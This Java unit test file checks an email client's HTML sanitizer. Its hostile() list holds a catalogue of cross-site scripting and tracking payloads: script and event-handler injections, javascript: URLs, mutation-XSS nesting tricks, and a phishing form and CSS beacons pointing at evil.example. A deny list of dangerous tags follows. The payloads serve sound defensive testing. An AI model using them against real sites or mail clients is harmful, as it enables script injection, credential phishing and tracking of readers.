package parley.channels.email.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Locale;
import java.util.stream.Collectors;
import java.util.stream.IntStream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;
import parley.channels.html.HtmlCleaner;

/** What is left of HTML shows what was written, does nothing and fetches nothing. */
class HtmlCleanerTest {
  private static HtmlCleaner.Clean clean(String html) {
    return HtmlCleaner.clean(html, MailLimits.HTML, QuoteMarks::new);
  }

  private static final List<String> HARMLESS_ATTRIBUTES =
      List.of(
          "href",
          "rel",
          "src",
          "data-remote-src",
          "alt",
          "title",
          "style",
          "width",
          "height",
          "border",
          "cellpadding",
          "cellspacing",
          "size",
          "colspan",
          "rowspan",
          "span",
          "start",
          "value",
          "align",
          "valign",
          "dir",
          "lang",
          "type",
          "nowrap",
          "bgcolor",
          "color",
          "face",
          "data-quote");

  static List<String> hostile() {
    return List.of(
        "<script>alert(1)</script>ok",
        "<scr<script>ipt>alert(1)</scr</script>ipt>ok",
        "<p onclick=alert(1) onmouseover='alert(1)' OnLoad=\"alert(1)\">ok</p>",
        "<img src=x onerror=alert(1)>ok",
        "<svg><style><img src=x onerror=alert(1)></style></svg>ok",
        "<svg/onload=alert(1)><a xlink:href=javascript:alert(1)>x</a></svg>ok",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1"
            + " onerror=alert(1)&gt;\"></mglyph></table></mtext></math>ok",
        "<form action=https://evil.example><input name=password><button>ok</button></form>",
        "<base href=https://evil.example/><a href=login>ok</a>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>ok",
        "<iframe src=https://evil.example></iframe><object data=x></object><embed src=x>ok",
        "<link rel=stylesheet href=https://evil.example/x.css>ok",
        "<a href='data:text/html,<script>alert(1)</script>'>ok</a>",
        "<a href='javascript:alert(1)'>ok</a><a href='java\tscript:alert(1)'>ok</a><a"
            + " href='&#106;avascript&colon;alert(1)'>ok</a><a href='"
            + " \u0001javascript:alert(1)'>ok</a>",
        "<img src='data:image/svg+xml,<svg onload=alert(1)>'><img src=\"jav&#x0A;ascript:x\">ok",
        "<p style=\"background:url(https://evil.example/p.gif);position:fixed;top:0\">ok</p>",
        "<style>@import 'https://evil.example/x.css'; p{background:url(x)}</style>ok",
        "<p style='width:expression(alert(1));-moz-binding:url(x);behavior:url(x)'>ok</p>",
        "<table background=https://evil.example/p.gif><td background=x>ok</table>",
        "<video src=https://evil.example/v autoplay></video><audio src=x></audio>ok",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>ok",
        "<img srcset='https://evil.example/a 1x' src='cid:a' longdesc=https://evil.example>ok",
        "<!--><img src=x onerror=alert(1)>--><![CDATA[<script>]]>ok<!-- [if IE]><p><![endif]-->",
        "<div id=location name=cookie class=x>ok</div><a name=body>ok</a>",
        "<template><script>alert(1)</script></template><xmp><img src=x onerror=1></xmp>ok",
        "<title>no</title><textarea></textarea><select><option>a</select>ok");
  }

  @ParameterizedTest
  @MethodSource("hostile")
  void nothing_that_acts_or_fetches_is_left(String html) {
    HtmlCleaner.Clean clean = clean(html);
    assertThat(clean.html()).contains("ok");
    for (Element element : Jsoup.parse(clean.html()).body().select("*")) {
      assertThat(element.normalName())
          .isNotIn(
              "script",
              "svg",
              "math",
              "form",
              "input",
              "button",
              "base",
              "meta",
              "iframe",
              "object",
              "embed",
              "link",
              "style",
              "video",
              "audio",
              "template",
              "noscript",
              "xmp",
              "title",
              "textarea",
              "select");
      element.attributes().forEach(a -> assertThat(a.getKey()).isIn(HARMLESS_ATTRIBUTES));
      assertThat(element.attr("src"))
          .satisfiesAnyOf(
              src -> assertThat(src).isEmpty(), src -> assertThat(src).startsWith("cid:"));
      assertThat(element.attr("href"))
          .satisfiesAnyOf(
              href -> assertThat(href).isEmpty(),
              href -> assertThat(href).matches("(https?|mailto|tel):.*"));
      assertThat(element.attr("style").toLowerCase(Locale.ROOT))
          .doesNotContain("url", "position", "expression", "binding", "behavior", "import");
    }
  }

  @Test
  void cleaning_what_is_clean_changes_nothing() {
    for (String html : hostile()) {
      String once = clean(html).html();
      assertThat(clean(once).html().replace("src=", "data-remote-src="))
          .isEqualTo(once.replace(" src=", " data-remote-src="));
    }
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "<p>Hi <b>you</b></p> | <p>Hi <b>you</b></p>",
        "<p style='color:red;position:fixed'>a</p> | <p style=\"color:red\">a</p>",
        "<ul><li>a<li>b</ul> | <ul><li>a</li><li>b</li></ul>",
        "<a href=https://a.example/?x=1&y=2>l</a> |"
            + " <a href=\"https://a.example/?x&#61;1&amp;y&#61;2\" rel=\"nofollow noopener\">l</a>",
        "<img src=cid:a@b width=10 alt=x> | <img src=\"cid:a&#64;b\" width=\"10\" alt=\"x\" />",
        "<img src=http://a.example/i.png> |"
            + " <img data-remote-src=\"http://a.example/i.png\" />",
        "<img src=//a.example/i.png> | <img data-remote-src=\"https://a.example/i.png\" />",
        "<img data-remote-src=javascript:x> | <img />",
        "<td bgcolor=#ff0000>x | <table><tbody><tr><td"
            + " bgcolor=\"#ff0000\">x</td></tr></tbody></table>"
      })
  void what_shows_something_stays(String html, String expected) {
    assertThat(clean(html).html()).isEqualTo(expected);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "<html dir=rtl lang=he><head><title>x</title></head><body><p>a | <div"
            + " dir=\"rtl\"><p>a</p></div>",
        "<BODY DIR=RTL><p>a</p></BODY></HTML> | <div dir=\"RTL\"><p>a</p></div>",
        "<body bgcolor=#102030 text=white><p>a</p></body> |"
            + " <div style=\"background-color:#102030;color:white\"><p>a</p></div>",
        "<body style='background:#102030;color:#fff'>a | <div"
            + " style=\"background:#102030;color:#fff\">a</div>",
        "<body style='margin:0;padding:0'><p>a | <p>a</p>",
        "<body bgcolor='red;position:fixed' onload=x()>a | <div>a</div>",
        "<body dir=rtl>a<table><tr><td>b</table></body>c |"
            + " <div dir=\"rtl\">a<table><tbody><tr><td>b</td></tr></tbody></table>c</div>"
      })
  void what_is_said_of_the_whole_page_goes_to_an_element(String html, String expected) {
    assertThat(clean(html).html()).isEqualTo(expected);
  }

  @ParameterizedTest
  @CsvSource(
      delimiter = '|',
      value = {
        "<p style='display:none;color:red'>a | <p style=\"display:none;color:red\">a</p>",
        "<p style='max-height:0;overflow:hidden'>a | <p"
            + " style=\"max-height:0;overflow:hidden\">a</p>",
        "<a style='display:inline-block;padding:4px'>a | <a"
            + " style=\"display:inline-block;padding:4px\">a</a>"
      })
  void what_is_not_to_be_seen_is_not(String html, String expected) {
    assertThat(clean(html).html()).isEqualTo(expected);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {"<font size=2>", "<b>", "<div>", "<span><label>", "<form><table><tr><td>"})
  void words_within_more_elements_than_anybody_closes_stay(String tag) {
    String html =
        IntStream.rangeClosed(1, 400)
            .mapToObj(line -> tag + "Line " + line + "<style>p{color:red}</style><br>\n")
            .collect(Collectors.joining());
    HtmlCleaner.Clean clean = clean("<body dir=rtl><title>no</title>" + html);
    assertThat(Jsoup.parse(clean.html()).text())
        .startsWith("Line 1 Line 2 ")
        .contains(" Line 255 Line 256 Line 257 ")
        .endsWith(" Line 399 Line 400");
    assertThat(clean.truncated()).isFalse();
  }

  @Test
  void images_that_would_be_fetched_are_noted() {
    assertThat(clean("<img src=https://a.example/i.png>").hasRemoteContent()).isTrue();
    assertThat(clean("<img src=cid:a><a href=https://b.example>b</a>").hasRemoteContent())
        .isFalse();
    assertThat(clean("<p title=data-remote-src>a</p>").hasRemoteContent()).isFalse();
  }

  @Test
  void more_than_is_kept_ends_in_closed_elements() {
    String html = "<div><b>" + "<p>żółw &amp; 🐢</p>".repeat(100_000) + "</b></div>";
    HtmlCleaner.Clean clean = clean(html);
    assertThat(clean.truncated()).isTrue();
    assertThat(clean.html().getBytes(java.nio.charset.StandardCharsets.UTF_8).length)
        .isBetween(MailLimits.HTML - 1_000, MailLimits.HTML + 100);
    assertThat(clean.html()).endsWith("</b></div>");
  }

  @Test
  void elements_within_each_other_without_end() {
    HtmlCleaner.Clean clean = clean("<div>".repeat(200_000) + "deep");
    assertThat(clean.html().length()).isLessThan(10_000);
    ReadMail read = SampleMail.html("above" + "<blockquote>".repeat(100_000) + "deep").read;
    assertThat(read.text()).startsWith("above");
  }
}
